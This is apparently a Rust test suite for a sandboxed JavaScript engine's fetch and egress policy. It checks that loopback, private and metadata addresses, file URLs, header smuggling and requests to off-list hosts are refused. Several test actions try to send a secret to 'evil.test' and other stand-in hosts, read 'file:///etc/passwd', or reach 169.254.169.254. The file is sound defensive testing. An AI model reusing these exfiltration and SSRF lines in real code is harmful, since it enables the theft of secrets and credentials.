//! `fetch` against local HTTP and HTTPS servers (`support/http.rs`, loopback only): the
//! WHATWG shapes, concurrency, timeouts, abort, redirects, size caps and compression, the
//! egress policy's refusals (cases 27-35 of the adversarial catalog), what the Outcome
//! records, and a request that waits while another execution finishes.
//!
//! No test sends a packet anywhere but loopback: every other range is refused at the
//! address check, names that would resolve elsewhere are given fixed answers, and the
//! refusals of loopback itself are tested against real listeners on 127.0.0.1 and ::1.

use std::net::{IpAddr, Ipv6Addr};
use std::time::{Duration, Instant};

use actionbox::{ActionError, Decision, EgressPolicy, Error, ExecuteOptions, Outcome, Trigger};
use actionbox_tests::http::{Server, TestCa};
use actionbox_tests::{block_on, engine, event};
use serde_json::{Value, json};

/// The policy of tests: loopback reachable, the test CA trusted, plain HTTP allowed.
fn local_policy(ca: &TestCa) -> EgressPolicy {
    let mut policy = EgressPolicy::new();
    policy.allow_loopback_for_tests(true).allow_http(true);
    policy.add_root_certificate(ca.root_pem.as_bytes()).unwrap();
    policy
}

fn run_with(source: &str, policy: &EgressPolicy) -> Outcome {
    actionbox_tests::http::run_under("fetch.js", source, policy)
}

fn logged(outcome: &Outcome) -> Value {
    actionbox_tests::http::last_logged_json(outcome)
}

/// A handler that logs, as JSON, what `body` (an async function body) returns.
fn action(body: &str) -> String {
    format!(
        "exports.onExecutePostLogin = async (event, api) => {{\n\
         const result = await (async () => {{ {body} }})();\n\
         console.log(JSON.stringify(result));\n}};\n\
         async function failure(promise) {{\n\
           try {{ await promise; return 'resolved'; }}\n\
           catch (e) {{ return {{ name: e.name, code: e.code, message: e.message, cause: e.cause && e.cause.code }}; }}\n\
         }}\n"
    )
}

#[test]
fn responses_read_as_text_json_bytes_and_blobs_over_http_and_https() {
    let ca = TestCa::new();
    let (http, https) = (Server::http(), Server::https(&ca));
    let source = action(&format!(
        r#"
        const hello = await fetch('{hello}');
        const echo = await fetch('{echo}?q=1', {{
          method: 'post',
          headers: {{ 'X-Custom': 'yes', 'Content-Type': 'application/json' }},
          body: JSON.stringify({{ a: 1 }}),
        }});
        const echoed = await echo.json();
        const secure = await fetch('{secure}');
        const bytes = new Uint8Array(await (await fetch('{bytes}')).arrayBuffer());
        const blob = await (await fetch('{hello}')).blob();
        const first = await hello.text();
        const reread = await failure(hello.text());
        return {{
          status: hello.status, ok: hello.ok, statusText: hello.statusText, url: hello.url,
          type: hello.headers.get('content-type'), redirected: hello.redirected,
          method: echoed.method, path: echoed.path, custom: echoed.headers['x-custom'],
          body: echoed.body, version: echoed.version,
          secure: await secure.json().then((j) => j.version),
          bytes: bytes.length, blob: [blob.size, await blob.text()],
          first, reread: reread.name, used: hello.bodyUsed,
        }};
        "#,
        hello = http.url("/hello"),
        echo = http.url("/echo"),
        secure = https.url("/echo"),
        bytes = http.url("/bytes?n=1000"),
    ));
    let outcome = run_with(&source, &local_policy(&ca));
    let result = logged(&outcome);
    assert_eq!(
        result,
        json!({
            "status": 200, "ok": true, "statusText": "OK", "url": http.url("/hello"),
            "type": "text/plain", "redirected": false,
            "method": "POST", "path": "/echo?q=1", "custom": "yes",
            "body": "{\"a\":1}", "version": "HTTP/1.1",
            "secure": "HTTP/2.0",
            "bytes": 1000, "blob": [5, "hello"],
            "first": "hello", "reread": "TypeError", "used": true,
        })
    );
    assert_eq!(outcome.requests.len(), 5);
    let first = &outcome.requests[0];
    assert_eq!((first.method.as_str(), first.status, first.bytes), ("GET", Some(200), 5));
    assert_eq!(first.host, format!("127.0.0.1:{}", http.addr.port()), "the host only: no path, no query");
    let records = serde_json::to_value(&outcome).unwrap()["requests"].to_string();
    assert!(!records.contains("q=1") && !records.contains("/echo"), "no path or query in the records: {records}");
}

#[test]
fn requests_awaited_together_run_concurrently() {
    let server = Server::http();
    let source = action(&format!(
        "const started = Date.now();
         const bodies = await Promise.all([1, 2, 3, 4].map(() => fetch('{}').then((r) => r.text())));
         return {{ bodies, ms: Date.now() - started }};",
        server.url("/slow?ms=400")
    ));
    let result = logged(&run_with(&source, &local_policy(&TestCa::new())));
    assert_eq!(result["bodies"], json!(["slow", "slow", "slow", "slow"]));
    let ms = result["ms"].as_f64().unwrap();
    assert!(ms < 1200.0, "four 400 ms requests one after the other take 1600 ms; together they took {ms} ms");
}

#[test]
fn a_request_stops_at_its_timeout_even_when_the_body_trickles() {
    let server = Server::http();
    let mut policy = local_policy(&TestCa::new());
    policy.request_timeout(Duration::from_millis(300));
    let source = action(&format!(
        "return [await failure(fetch('{}')), await failure(fetch('{}').then((r) => r.text()))];",
        server.url("/slow?ms=5000"),
        server.url("/drip"),
    ));
    // The engine first: on a cold guest cache, starting it prepares the guest, which
    // the time measured below is not about.
    engine();
    let started = Instant::now();
    let outcome = run_with(&source, &policy);
    let result = logged(&outcome);
    for failure in result.as_array().unwrap() {
        assert_eq!(failure["name"], "TypeError");
        assert_eq!(failure["code"], "ERR_ACTIONBOX_TIMEOUT");
        assert_eq!(failure["cause"], "ERR_ACTIONBOX_TIMEOUT");
    }
    assert!(started.elapsed() < Duration::from_secs(4), "both stopped at 300 ms, not at the server's pace");
    assert_eq!(outcome.requests[0].failure.as_deref(), Some("ERR_ACTIONBOX_TIMEOUT"));
}

#[test]
fn abort_controllers_and_abort_signal_timeout_stop_requests() {
    let server = Server::http();
    let source = action(&format!(
        "const controller = new AbortController();
         const request = fetch('{slow}', {{ signal: controller.signal }});
         setTimeout(() => controller.abort(), 20);
         const aborted = await failure(request);
         const timedOut = await failure(fetch('{slow}', {{ signal: AbortSignal.timeout(50) }}));
         const before = await failure(fetch('{slow}', {{ signal: AbortSignal.abort('why') }}));
         const any = AbortSignal.any([new AbortController().signal, AbortSignal.timeout(30)]);
         const combined = await failure(fetch('{slow}', {{ signal: any }}));
         let events = 0;
         const c = new AbortController();
         c.signal.addEventListener('abort', () => events++);
         c.signal.onabort = () => events++;
         c.abort(); c.abort();
         return {{ aborted: aborted.name, timedOut: timedOut.name, before, combined: combined.name, events,
                   reason: c.signal.reason instanceof DOMException, code: c.signal.reason.code }};",
        slow = server.url("/slow?ms=3000"),
    ));
    let outcome = run_with(&source, &local_policy(&TestCa::new()));
    assert_eq!(
        logged(&outcome),
        json!({ "aborted": "AbortError", "timedOut": "TimeoutError", "before": {},
                "combined": "TimeoutError", "events": 2, "reason": true, "code": 20 })
    );
    let aborted = outcome.requests.iter().filter(|r| r.failure.as_deref() == Some("ERR_ACTIONBOX_ABORTED")).count();
    assert_eq!(aborted, 3, "{:?}", outcome.requests);
}

#[test]
fn a_signal_aborted_before_the_request_rejects_with_its_reason() {
    let server = Server::http();
    let source = action(&format!(
        "try {{ await fetch('{}', {{ signal: AbortSignal.abort('why') }}); return 'resolved'; }}
         catch (e) {{ return e; }}",
        server.url("/hello")
    ));
    let outcome = run_with(&source, &local_policy(&TestCa::new()));
    assert_eq!(logged(&outcome), json!("why"));
    assert!(outcome.requests.is_empty(), "nothing was sent");
    assert_eq!(server.connections(), 0);
}

#[test]
fn redirects_are_followed_checked_and_counted() {
    let ca = TestCa::new();
    let (http, https) = (Server::http(), Server::https(&ca));
    let mut listed = local_policy(&ca);
    // Listed addresses are still checked: the private ones fail as the network does.
    for host in ["127.0.0.1", "10.0.0.1", "169.254.169.254"] {
        listed.allow_host(host).unwrap();
    }
    let source = action(&format!(
        "const chain = await fetch('{chain3}');
         return {{
           chain: [await chain.text(), chain.redirected, chain.url],
           tooMany: (await failure(fetch('{chain25}'))).code,
           twenty: await (await fetch('{chain20}')).text(),
           downgrade: (await failure(fetch('{https_to_http}'))).code,
           error: (await failure(fetch('{chain3}', {{ redirect: 'error' }}))).code,
           manual: (await fetch('{chain3}', {{ redirect: 'manual' }})).status,
           offList: (await failure(fetch('{to_localhost}'))).code,
           private: (await failure(fetch('{to_private}'))).code,
           metadata: (await failure(fetch('{to_metadata}'))).code,
           see_other: (await (await fetch('{see_other}', {{ method: 'POST', body: 'x' }})).json()).method,
         }};",
        chain3 = http.url("/chain/3"),
        chain25 = http.url("/chain/25"),
        chain20 = http.url("/chain/20"),
        https_to_http = https.url(&format!("/redirect?to={}", http.url("/hello"))),
        to_localhost = http.url(&format!("/redirect?to=http://localhost:{}/hello", http.addr.port())),
        to_private = http.url("/redirect?to=http://10.0.0.1/"),
        to_metadata = http.url("/redirect?to=http://169.254.169.254/latest/meta-data/"),
        see_other = http.url(&format!("/redirect?status=303&to={}", http.url("/echo"))),
    ));
    let outcome = run_with(&source, &listed);
    assert_eq!(
        logged(&outcome),
        json!({
            "chain": ["end", true, http.url("/chain/0")],
            "tooMany": "ERR_ACTIONBOX_TOO_MANY_REDIRECTS",
            "twenty": "end",
            "downgrade": "ERR_ACTIONBOX_REDIRECT_NOT_ALLOWED",
            "error": "ERR_ACTIONBOX_REDIRECT_NOT_ALLOWED",
            "manual": 302,
            "offList": "ERR_ACTIONBOX_HOST_NOT_ALLOWED",
            "private": "ERR_ACTIONBOX_NETWORK",
            "metadata": "ERR_ACTIONBOX_NETWORK",
            "see_other": "GET",
        })
    );
    assert_eq!(outcome.requests[0].redirects, 3);
}

#[test]
fn responses_are_cut_at_the_size_caps_and_decoded_before_counting() {
    let server = Server::http();
    let over = actionbox::limits::MAX_RESPONSE_BODY_BYTES + 1;
    let source = action(&format!(
        "return {{
           big: (await failure(fetch('{big}'))).code,
           exact: (await (await fetch('{exact}')).arrayBuffer()).byteLength,
           gzip: await (await fetch('{gzip}')).json(),
           bomb: (await failure(fetch('{bomb}'))).code,
           headers: (await failure(fetch('{headers}'))).code,
           upload: (await failure(fetch('{echo}', {{ method: 'POST', body: 'x'.repeat({upload}) }}))).code,
         }};",
        big = server.url(&format!("/bytes?n={over}")),
        exact = server.url(&format!("/bytes?n={}", over - 1)),
        gzip = server.url("/gzip"),
        bomb = server.url("/gzip-bomb"),
        headers = server.url("/many-headers"),
        echo = server.url("/echo"),
        upload = actionbox::limits::MAX_REQUEST_BODY_BYTES + 1,
    ));
    let outcome = run_with(&source, &local_policy(&TestCa::new()));
    assert_eq!(
        logged(&outcome),
        json!({
            "big": "ERR_ACTIONBOX_RESPONSE_TOO_LARGE",
            "exact": over - 1,
            "gzip": { "compressed": true },
            "bomb": "ERR_ACTIONBOX_RESPONSE_TOO_LARGE",
            "headers": "ERR_ACTIONBOX_HEADERS_TOO_LARGE",
            "upload": "ERR_ACTIONBOX_REQUEST_BODY_TOO_LARGE",
        })
    );
}

/// Catalog 27, 28, 35: schemes, loopback without the test setting (real listeners on
/// 127.0.0.1 and ::1), and one error for a closed port, an unknown name and a refused
/// address.
#[test]
fn the_default_policy_refuses_loopback_plain_http_and_other_schemes() {
    let v4 = Server::http();
    let v6 = std::net::TcpListener::bind((Ipv6Addr::LOCALHOST, 0))
        .ok()
        .map(|_| Server::http_on(IpAddr::V6(Ipv6Addr::LOCALHOST)));
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let https_v4 = v4.url("/hello").replace("http:", "https:");
    let https_v6 = v6.as_ref().map_or("https://[::1]:1/".to_string(), |s| s.url("/hello").replace("http:", "https:"));
    let source = action(&format!(
        "const codes = async (urls) => {{ const out = []; for (const u of urls) out.push((await failure(fetch(u))).code); return out; }};
         const messages = async (urls) => {{ const out = []; for (const u of urls) out.push((await failure(fetch(u))).message); return out; }};
         return {{
           schemes: await codes(['{http_v4}', 'file:///etc/passwd', 'data:text/plain,hi', 'gopher://example.com/', 'ftp://example.com/']),
           loopback: await codes(['{https_v4}', '{https_v6}', 'https://localhost:{port}/', 'https://[::ffff:127.0.0.1]:{port}/',
                                  'https://2130706433:{port}/', 'https://0177.0.0.1:{port}/']),
           oracle: await messages(['https://unknown.test/', 'https://rebound.test/', 'https://10.0.0.1/']),
           port: (await failure(fetch('https://example.test:25/'))).code,
           relative: (await failure(fetch('/hello'))).code,
           credentials: (await failure(fetch('https://user:pass@example.test/'))).code,
         }};",
        http_v4 = v4.url("/hello"),
        port = v4.addr.port(),
    ));
    let mut policy = EgressPolicy::new();
    policy
        .resolve_for_tests("unknown.test", vec![])
        .resolve_for_tests("rebound.test", vec!["10.1.2.3".parse().unwrap()]);
    let outcome = run_with(&source, &policy);
    let result = logged(&outcome);
    assert_eq!(result["schemes"], json!(vec!["ERR_ACTIONBOX_SCHEME_NOT_ALLOWED"; 5]));
    assert_eq!(result["loopback"], json!(vec!["ERR_ACTIONBOX_NETWORK"; 6]));
    assert_eq!(
        result["oracle"],
        json!(["fetch failed", "fetch failed", "fetch failed"]),
        "one message whatever the cause"
    );
    assert_eq!(result["port"], "ERR_ACTIONBOX_PORT_NOT_ALLOWED");
    assert_eq!(result["relative"], "ERR_INVALID_URL");
    assert_eq!(result["credentials"], "ERR_INVALID_URL");
    assert_eq!(v4.connections(), 0, "nothing reached the IPv4 listener");
    assert_eq!(v6.map_or(0, |s| s.connections()), 0, "nothing reached the IPv6 listener");

    // A closed port on an allowed loopback fails with the same code and message.
    let mut loopback = EgressPolicy::new();
    loopback.allow_loopback_for_tests(true);
    let closed_source = action(&format!("return await failure(fetch('https://127.0.0.1:{closed}/'));"));
    let closed_result = logged(&run_with(&closed_source, &loopback));
    assert_eq!(closed_result["code"], "ERR_ACTIONBOX_NETWORK");
    assert_eq!(closed_result["message"], "fetch failed");
}

/// Catalog 29: a name whose addresses include a refused one connects only to a checked
/// address; a name with only refused addresses fails before any connection.
#[test]
fn names_connect_only_to_checked_addresses() {
    let server = Server::http();
    let mut policy = local_policy(&TestCa::new());
    policy
        .resolve_for_tests("mixed.test", vec!["10.0.0.7".parse().unwrap(), "127.0.0.1".parse().unwrap()])
        .resolve_for_tests("private.test", vec!["192.168.1.1".parse().unwrap(), "fd00::1".parse().unwrap()]);
    let port = server.addr.port();
    let source = action(&format!(
        "return [await (await fetch('http://mixed.test:{port}/hello')).text(),
                 (await failure(fetch('http://private.test:{port}/hello'))).code];"
    ));
    assert_eq!(logged(&run_with(&source, &policy)), json!(["hello", "ERR_ACTIONBOX_NETWORK"]));
    assert_eq!(server.connections(), 1);
}

/// Catalog 30 and 37: only listed hosts, matched on the parsed host.
#[test]
fn the_allow_list_refuses_every_other_host() {
    let server = Server::http();
    let mut policy = local_policy(&TestCa::new());
    policy.allow_host("api.test").unwrap();
    policy.resolve_for_tests("api.test", vec!["127.0.0.1".parse().unwrap()]);
    let port = server.addr.port();
    let source = action(&format!(
        "const codes = [];
         for (const url of ['http://api.test.evil.test:{port}/', 'http://evil.test:{port}/api.test', 'http://127.0.0.1:{port}/hello']) {{
           codes.push((await failure(fetch(url, {{ headers: {{ authorization: event.secrets.TOKEN || 'secret' }} }}))).code);
         }}
         codes.push(await (await fetch('http://API.TEST.:{port}/hello')).text());
         return codes;"
    ));
    assert_eq!(
        logged(&run_with(&source, &policy)),
        json!([
            "ERR_ACTIONBOX_HOST_NOT_ALLOWED",
            "ERR_ACTIONBOX_HOST_NOT_ALLOWED",
            "ERR_ACTIONBOX_HOST_NOT_ALLOWED",
            "hello"
        ])
    );
    assert_eq!(server.connections(), 1, "only the listed host was reached");
}

/// Catalog 33: an execution starts at most `MAX_REQUESTS` requests, `MAX_CONCURRENT_REQUESTS`
/// at a time.
#[test]
fn a_thousand_parallel_fetches_meet_the_request_and_concurrency_caps() {
    let server = Server::http();
    let source = action(&format!(
        "const started = Date.now();
         const results = await Promise.all(Array.from({{ length: 1000 }}, () =>
           fetch('{}').then((r) => r.status, (e) => e.code)));
         const counts = {{}};
         for (const r of results) counts[r] = (counts[r] || 0) + 1;
         return {{ counts, ms: Date.now() - started }};",
        server.url("/slow?ms=100")
    ));
    let outcome = run_with(&source, &local_policy(&TestCa::new()));
    let result = logged(&outcome);
    let max = actionbox::limits::MAX_REQUESTS;
    assert_eq!(result["counts"], json!({ "200": max, "ERR_ACTIONBOX_TOO_MANY_REQUESTS": 1000 - max }));
    let waves = max.div_ceil(actionbox::limits::MAX_CONCURRENT_REQUESTS) as f64;
    assert!(result["ms"].as_f64().unwrap() >= waves * 100.0 * 0.9, "at most 8 at once: {} waves", waves);
    assert_eq!(outcome.requests.len(), max);
}

/// Catalog 34: header smuggling is refused in the guest's `Headers` and in the host.
#[test]
fn smuggled_headers_are_refused() {
    let server = Server::http();
    let url = server.url("/echo");
    let source = action(&format!(
        "const out = [];
         for (const headers of [{{ 'X-A': 'a\\r\\nX-B: b' }}, {{ 'Host': 'internal' }}, {{ 'Transfer-Encoding': 'chunked' }},
                                {{ 'Bad Name': 'x' }}, {{ 'Content-Length': '1' }}]) {{
           const f = await failure(fetch('{url}', {{ headers }}));
           out.push(f.name + ' ' + (f.code || ''));
         }}
         return out;"
    ));
    assert_eq!(
        logged(&run_with(&source, &local_policy(&TestCa::new()))),
        json!([
            "TypeError ",
            "TypeError ERR_ACTIONBOX_INVALID_HEADER",
            "TypeError ERR_ACTIONBOX_INVALID_HEADER",
            "TypeError ",
            "TypeError ERR_ACTIONBOX_INVALID_HEADER",
        ])
    );
    assert_eq!(server.connections(), 0);
}

#[test]
fn requests_still_running_when_the_handler_settles_are_reported_and_stopped() {
    let server = Server::http();
    let source = format!("exports.onExecutePostLogin = async () => {{ fetch('{}'); }};", server.url("/slow?ms=2000"));
    engine();
    let started = Instant::now();
    let outcome = run_with(&source, &local_policy(&TestCa::new()));
    assert!(matches!(outcome.decision, Decision::Allowed));
    assert_eq!(outcome.pending.requests, 1);
    assert_eq!(outcome.requests[0].failure.as_deref(), Some("ERR_ACTIONBOX_UNFINISHED"));
    assert!(started.elapsed() < Duration::from_millis(1500), "the execution did not wait for it");
    let json = serde_json::to_value(&outcome).unwrap();
    assert_eq!(json["pending"], json!({ "requests": 1 }));
}

#[test]
fn fetch_at_the_top_level_is_a_compile_error_naming_the_line() {
    let source =
        "const config = {};\nconst data = fetch('https://example.com/');\nexports.onExecutePostLogin = async () => {};";
    match block_on(engine().compile("top.js", source)) {
        Err(Error::TopLevel(ActionError::Threw { message, location, .. })) => {
            assert!(message.contains("compiled"), "{message}");
            assert_eq!(location.map(|l| l.line), Some(2));
        }
        other => panic!("expected a top-level error, got {other:?}"),
    }
}

#[test]
fn an_execution_waiting_for_a_slow_server_lets_another_finish() {
    let server = Server::http();
    let slow = block_on(engine().compile(
        "slow.js",
        &format!(
            "exports.onExecutePostLogin = async () => {{ await (await fetch('{}')).text(); }};",
            server.url("/slow?ms=600")
        ),
    ))
    .unwrap();
    let quick = block_on(engine().compile("quick.js", "exports.onExecutePostLogin = async () => {};")).unwrap();
    let mut options = ExecuteOptions::new();
    options.egress(local_policy(&TestCa::new()));
    let (slow_done, quick_done) = block_on(async {
        let started = Instant::now();
        let slow_run = async {
            let outcome = engine().execute_with(Trigger::PostLogin, &slow, &event(), &options).await.unwrap();
            (outcome, started.elapsed())
        };
        let quick_run = async {
            tokio::time::sleep(Duration::from_millis(50)).await;
            let outcome = engine().execute(Trigger::PostLogin, &quick, &event()).await.unwrap();
            (outcome, started.elapsed())
        };
        tokio::join!(slow_run, quick_run)
    });
    assert!(matches!(slow_done.0.decision, Decision::Allowed), "{:?}", slow_done.0.decision);
    assert!(matches!(quick_done.0.decision, Decision::Allowed));
    assert!(quick_done.1 < slow_done.1, "the quick execution finished while the slow one waited");
    assert!(slow_done.1 >= Duration::from_millis(600));
}

/// The shapes that are pure JavaScript, and bodies read as UTF-8 (a byte order mark,
/// ill-formed sequences), against the machine's `node`.
#[test]
fn headers_search_params_and_form_data_behave_as_in_node() {
    let body = r#"
      const h = new Headers([['B', '2'], ['a', '1'], ['b', '3'], ['Set-Cookie', 'x=1'], ['set-cookie', 'y=2']]);
      const p = new URLSearchParams('?q=a+b&x=%20%zz&q=2&e=');
      p.append('sp ace', 'a&b=c ü~*');
      p.sort();
      const f = new FormData();
      f.append('k', 'v'); f.set('k', 'w'); f.append('n', 1);
      const r = new Response('body', { status: 201, headers: { 'X-Y': 'z' } });
      const q = new Request('https://example.com/x', { method: 'post', body: new URLSearchParams({ a: '1' }) });
      return {
        headers: [...h], get: h.get('b'), cookies: h.getSetCookie(), has: h.has('A'),
        params: p.toString(), all: p.getAll('q'), x: p.get('x'), size: p.size,
        obj: new URLSearchParams({ a: '1', b: 'two words' }).toString(),
        form: [...f], response: [r.status, r.ok, r.statusText, r.headers.get('x-y'), r.type],
        request: [q.method, q.headers.get('content-type'), await q.text()],
        json: await Response.json({ a: 1 }).json(),
        event: new Event('abort').type, tags: [String(h), String(p), String(f)].join(' '),
        decoded: [
          await new Response(new Uint8Array([0xef, 0xbb, 0xbf, 0x68, 0x69])).text(),
          await new Response(new Uint8Array([0x61, 0xff, 0x62, 0xe2, 0x82, 0x63, 0xf0, 0x9f, 0x98, 0x80, 0xed, 0xa0, 0x80, 0xf4])).text(),
          await new Response(new Uint8Array([0xef, 0xbb, 0xbf, 0x7b, 0x22, 0x61, 0x22, 0x3a, 0x31, 0x7d])).json(),
          await new Blob([new Uint8Array([0xc3, 0xa9, 0xc3])]).text(),
          await new Response('x').json().catch((e) => e.name),
          [...(await new Response('a=%C3%A9&b=%FF', { headers: { 'content-type': 'application/x-www-form-urlencoded' } }).formData())],
        ],
      };
    "#;
    let outcome = run_with(&action(body), &EgressPolicy::new());
    let ours = logged(&outcome);
    let script = format!("(async () => {{ {body} }})().then((r) => console.log(JSON.stringify(r)));");
    match std::process::Command::new("node").arg("-e").arg(&script).output() {
        Ok(output) if output.status.success() => {
            let node: Value = serde_json::from_slice(&output.stdout).unwrap();
            assert_eq!(ours, node, "actionbox and node differ");
        }
        _ => eprintln!("note: no `node` on this machine; the shapes were not compared"),
    }
}

#[test]
fn an_engine_fetches_with_no_egress_option_given_under_the_default_policy() {
    let server = Server::http();
    let action =
        block_on(engine().compile(
            "default.js",
            &action(&format!("return (await failure(fetch('{}'))).code;", server.url("/hello"))),
        ))
        .unwrap();
    let outcome = block_on(engine().execute(Trigger::PostLogin, &action, &event())).unwrap();
    assert_eq!(logged(&outcome), json!("ERR_ACTIONBOX_SCHEME_NOT_ALLOWED"));
}

/// Mocks answer after the policy: no network at all, a clear error for a request no rule
/// answers, and a refused request stays refused even when a rule would answer it.
#[test]
fn mocks_answer_requests_after_the_policy_check() {
    let mocks = actionbox::Mocks::from_json(
        br#"{ "mocks": [
            { "method": "GET", "url": "https://api.example.com/users/*", "json": { "roles": ["admin"] },
              "headers": { "x-mock": "1" }, "delay_ms": 30 },
            { "url": "https://api.example.com/moved", "status": 302, "headers": { "location": "/users/2" } },
            { "url": "https://api.example.com/to-private", "status": 302, "headers": { "location": "https://10.0.0.1/" } },
            { "url": "http://plain.example.com/*", "body": "never" },
            { "url": "https://evil.example.net/*", "body": "never" }
        ] }"#,
    )
    .unwrap();
    let source = action(
        "const started = Date.now();
         const r = await fetch('https://api.example.com/users/1?expand=1');
         const moved = await fetch('https://api.example.com/moved');
         return {
           body: await r.json(), status: r.status, mock: r.headers.get('x-mock'), waited: Date.now() - started >= 25,
           moved: [moved.redirected, moved.url, (await moved.json()).roles[0]],
           missing: await failure(fetch('https://api.example.com/other', { method: 'POST' })),
           plain: (await failure(fetch('http://plain.example.com/x'))).code,
           offList: (await failure(fetch('https://evil.example.net/x'))).code,
           toPrivate: (await failure(fetch('https://api.example.com/to-private'))).code,
         };",
    );
    let mut policy = EgressPolicy::new();
    for host in ["api.example.com", "plain.example.com", "10.0.0.1"] {
        policy.allow_host(host).unwrap();
    }
    let engine_action = block_on(engine().compile("mocked.js", &source)).unwrap();
    let mut options = ExecuteOptions::new();
    options.egress(policy).mocks(mocks);
    let outcome = block_on(engine().execute_with(Trigger::PostLogin, &engine_action, &event(), &options)).unwrap();
    let result = logged(&outcome);
    assert_eq!(result["body"], json!({ "roles": ["admin"] }));
    assert_eq!(
        (result["status"].clone(), result["mock"].clone(), result["waited"].clone()),
        (json!(200), json!("1"), json!(true))
    );
    assert_eq!(result["moved"], json!([true, "https://api.example.com/users/2", "admin"]));
    assert_eq!(result["missing"]["code"], "ERR_ACTIONBOX_NOT_MOCKED");
    assert!(result["missing"]["message"].as_str().unwrap().contains("POST https://api.example.com/other"));
    assert_eq!(result["plain"], "ERR_ACTIONBOX_SCHEME_NOT_ALLOWED");
    assert_eq!(result["offList"], "ERR_ACTIONBOX_HOST_NOT_ALLOWED");
    assert_eq!(result["toPrivate"], "ERR_ACTIONBOX_NETWORK", "a mocked redirect's hop is checked too");
    assert_eq!(outcome.requests[0].host, "api.example.com");
}

/// Record, then replay with the server gone: the same logs and commands, from the same
/// responses, completion order, clock readings and random numbers; no secret in the
/// recording; a replay that makes another request fails it and says it diverged.
#[test]
fn a_recorded_execution_replays_the_same_without_the_network() {
    let server = Server::http();
    let source = action(&format!(
        "const started = Date.now();
         const order = [];
         const slow = fetch('{slow}&key=' + event.secrets.API_KEY, {{ headers: {{ authorization: 'Bearer ' + event.secrets.API_KEY }} }})
           .then((r) => r.text()).then((t) => order.push(t));
         const fast = fetch('{fast}', {{ method: 'POST', body: 'token=' + event.secrets.API_KEY }})
           .then((r) => r.json()).then((j) => order.push(j.method));
         await new Promise((resolve) => setTimeout(resolve, 5));
         await Promise.all([slow, fast]);
         api.idToken.setCustomClaim('https://x.example/r', Math.random());
         return {{ order, elapsed: Date.now() - started, random: Math.random(), now: new Date().toISOString() }};",
        slow = server.url("/slow?ms=80"),
        fast = server.url("/echo"),
    ));
    let engine_action = block_on(engine().compile("recorded.js", &source)).unwrap();
    let mut given = event();
    given["secrets"] = json!({ "API_KEY": "sk_live_0123456789" });
    let mut recording_options = ExecuteOptions::new();
    recording_options.egress(local_policy(&TestCa::new())).record();
    let recorded =
        block_on(engine().execute_with(Trigger::PostLogin, &engine_action, &given, &recording_options)).unwrap();
    let first = logged(&recorded);
    assert_eq!(first["order"], json!(["POST", "slow"]));
    let recording = recorded.recording.clone().expect("a recording");
    let text = serde_json::to_string(&recording).unwrap();
    assert!(!text.contains("sk_live_0123456789"), "no secret in the recording: {text}");
    for request in &recording.requests {
        if let actionbox::RecordedResult::Response { body, .. } = &request.result {
            let body = String::from_utf8(base64_decode(body)).unwrap();
            assert!(!body.contains("sk_live_0123456789"), "no secret in a recorded body: {body}");
        }
    }
    assert!(!text.to_lowercase().contains("bearer"), "no credentials in the recording");
    assert_eq!(recording.requests.len(), 2);
    assert!(!recording.monotonic_ns.is_empty() && !recording.wall_clock_ns.is_empty());
    drop(server);

    let reread = actionbox::Recording::from_json(text.as_bytes()).unwrap();
    let mut replay_options = ExecuteOptions::new();
    replay_options.egress(local_policy(&TestCa::new())).replay(reread.clone());
    let replayed =
        block_on(engine().execute_with(Trigger::PostLogin, &engine_action, &given, &replay_options)).unwrap();
    assert_eq!(logged(&replayed), first, "the same results, times and random numbers");
    assert_eq!(serde_json::to_value(&replayed.commands).unwrap(), serde_json::to_value(&recorded.commands).unwrap());
    assert!(!replayed.recording.as_ref().unwrap().diverged);

    let other = block_on(
        engine().compile("other.js", &action("return (await failure(fetch('https://elsewhere.example/'))).code;")),
    )
    .unwrap();
    let diverged = block_on(engine().execute_with(Trigger::PostLogin, &other, &given, &replay_options)).unwrap();
    assert_eq!(logged(&diverged), json!("ERR_ACTIONBOX_NOT_RECORDED"));
    assert!(diverged.recording.unwrap().diverged);
}

fn base64_decode(text: &str) -> Vec<u8> {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.decode(text).unwrap()
}

/// Catalog 37: an Action's real secret, in a header, the URL and the body of requests to
/// hosts off the allow-list: refused before any connection, and the outcome (its request
/// records included) holds no trace of the secret.
#[test]
fn secrets_sent_to_a_host_off_the_list_never_leave() {
    let server = Server::http();
    let port = server.addr.port();
    let mut policy = local_policy(&TestCa::new());
    policy.allow_host("api.test").unwrap();
    let secret = "sk_live_catalog_37_c0ffee";
    let source = action(&format!(
        "const key = event.secrets.KEY;
         const codes = [];
         codes.push((await failure(fetch('http://127.0.0.1:{port}/h', {{ headers: {{ authorization: key }} }}))).code);
         codes.push((await failure(fetch('http://127.0.0.1:{port}/u?key=' + key))).code);
         codes.push((await failure(fetch('http://evil.test:{port}/b', {{ method: 'POST', body: key }}))).code);
         return codes;"
    ));
    let action = block_on(engine().compile("secret.js", &source)).unwrap();
    let mut options = ExecuteOptions::new();
    options.egress(policy).secrets([("KEY".to_owned(), json!(secret))].into_iter().collect());
    let outcome = block_on(engine().execute_with(Trigger::PostLogin, &action, &event(), &options)).unwrap();
    assert_eq!(
        logged(&outcome),
        json!(["ERR_ACTIONBOX_HOST_NOT_ALLOWED", "ERR_ACTIONBOX_HOST_NOT_ALLOWED", "ERR_ACTIONBOX_HOST_NOT_ALLOWED"])
    );
    assert_eq!(server.connections(), 0, "nothing reached the listener");
    let text = serde_json::to_string(&outcome).unwrap();
    assert!(!text.contains(secret), "{text}");
}
